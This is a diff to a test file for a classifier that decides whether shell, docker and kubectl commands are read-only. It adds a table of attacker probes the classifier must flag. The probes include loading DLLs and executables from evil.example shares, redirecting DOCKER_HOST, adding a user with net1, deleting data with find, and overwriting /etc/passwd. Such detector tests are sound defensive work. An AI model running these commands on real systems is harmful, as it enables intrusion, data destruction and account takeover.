@@ -229,11 +229,56 @@ describe('what does not read, or cannot be read, is doubted with the part that s
     expect(notReadOnly(command, shell)).toBeDefined();
   });
 
-  it('judges a parameter as the one value it stands for, and a program asked its version as reading', () => {
+  // A fourth attacker helper's probes (2026-12-06), against the third version of the rule (attack35ro3: a blank after `.`
+  // or `::` before a member, a hashtable value taken for a key, `&` in mid-line, `-as` with a type name, curl's shortened
+  // long options, GNU find/sort/hostname in a Linux container, `> nul\..\x`, `npx version`, Get-WindowsFeature -Vhd,
+  // docker exec -e PATH=, kubectl's `--cache_dir`, -SessionVariable env:PATH, reflection to a property getter …).
+  it.each([
+    ["powershell", "(Get-Service docker). Stop()"],
+    ["powershell", "[IO.File]:: WriteAllText('C:\\ProgramData\\docker\\config\\daemon.json', '{\"hosts\":[\"tcp://0.0.0.0:2375\",\"npipe://\"]}')"],
+    ["powershell", "[Environment]:: SetEnvironmentVariable('DOCKER_HOST', 'tcp://evil.example:2375', 'Machine')"],
+    ["powershell", "(Get-Process dockerd). PriorityClass= 'Idle'"],
+    ["powershell", "[Reflection.Assembly]:: LoadFile('\\\\evil.example\\s\\x.dll'). CreateInstance('Evil')"],
+    ["powershell", "[int]:: x= \\\\evil.example\\s\\x.exe"],
+    ["powershell", "$h = @{ a = curl.exe == -s -X POST http://127.0.0.1:2375/containers/web/stop }"],
+    ["powershell", "$h = @{ a = cmd == /c \\\\evil.example\\s\\x.exe }"],
+    ["powershell", "powershell -NoProfile -Command 'Write-Output a\\' ''' x\\' '; \\\\evil.example\\s\\x.exe; Write-Output b\\' ''' y\\'"],
+    ["powershell", "pwsh -NoProfile -Command 'Get-Date & net1 user wcd P4ss-w0rd-1 /add'"],
+    ["kubectl", "kubectl exec web \"--\" pwsh -NoProfile -Command 'Get-Date & net1 user wcd P4ss-w0rd-1 /add'"],
+    ["powershell", "'C:\\ProgramData\\docker\\config\\daemon.json' -as 'System.IO.StreamWriter'"],
+    ["powershell", "$h = @{ Log = 'Security'; MachineName = '.'; MaximumKilobytes = 64 }; $h -as 'System.Diagnostics.EventLog'"],
+    ["powershell", "cmd /c 'echo {} > nul\\..\\..\\..\\..\\..\\..\\ProgramData\\docker\\config\\daemon.json'"],
+    ["cmd", "curl -s --conf \\\\evil.example\\s\\c.txt"],
+    ["cmd", "curl -s --js {} http://127.0.0.1:2375/containers/web/stop"],
+    ["cmd", "curl -s --cookie-j C:\\ProgramData\\docker\\config\\daemon.json https://evil.example/"],
+    ["powershell", "npx version"],
+    ["kubectl", "kubectl exec web \"--\" npx version"],
+    ["cmd", "label.exe version"],
+    ["powershell", "Write-Output '{}' | tee version"],
+    ["docker", "docker exec web find /data -delete"],
+    ["docker", "docker exec web find / -maxdepth 0 -exec chmod -R 000 /app ;"],
+    ["docker", "docker exec web sort -o /etc/passwd /dev/null"],
+    ["kubectl", "kubectl exec web \"--\" find /var/lib/data -delete"],
+    ["docker", "docker exec --privileged web hostname evil"],
+    ["powershell", "Get-WindowsFeature -Vhd \\\\evil.example\\s\\x.vhdx"],
+    ["powershell", "Get-WindowsOptionalFeature -Online -LogPath C:\\ProgramData\\docker\\config\\daemon.json"],
+    ["kubectl", "kubectl get pods --cache_dir=C:\\ProgramData\\docker\\config"],
+    ["docker", "docker exec -e PATH=\\\\evil.example\\s web cmd /c hostname"],
+    ["powershell", "Invoke-WebRequest https://example.com/ -UseBasicParsing -SessionVariable env:PATH | Out-Null; whoami"],
+    ["powershell", "$p = [Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms').GetType('System.Windows.Forms.Application').DeclaredProperties | Where-Object Name -eq 'CommonAppDataRegistry'; $p.GetValue($null)"],
+    ["kubectl", "kubectl get.x pods"],
+
+  ])('%s: %s (a fourth attacker\'s probe)', (shell, command) => {
+    expect(readOnlyDoubt(command, shell)).toBeDefined();
+    expect(notReadOnly(command, shell)).toBeDefined();
+  });
+
+  it('judges a parameter as the one value it stands for, and a program only by its own rule (no "asked its version" catch-all)', () => {
     expect(notReadOnly('Get-ChildItem Cert:\\LocalMachine\\Root | Where-Object Subject -Match {{ca_name}}', 'powershell')).toBeUndefined();
-    expect(notReadOnly('{{tool}} --version', 'cmd')).toBeUndefined();
-    expect(notReadOnly('anything.exe --version', 'cmd')).toBeUndefined();
-    expect(notReadOnly('anything.exe --version --reset', 'cmd')).toEqual({ part: 'anything.exe', why: 'command' });
+    expect(notReadOnly('"C:\\Program Files\\containerd\\bin\\containerd.exe" --version', 'cmd')).toBeUndefined();
+    // `npx version` installs and runs a package, `label --version` names a volume.
+    expect(notReadOnly('anything.exe --version', 'cmd')).toEqual({ part: 'anything.exe', why: 'command' });
+    expect(notReadOnly('label --version', 'cmd')).toEqual({ part: 'label', why: 'command' });
   });
 
   it('reads Windows words with their quotes removed', () => {
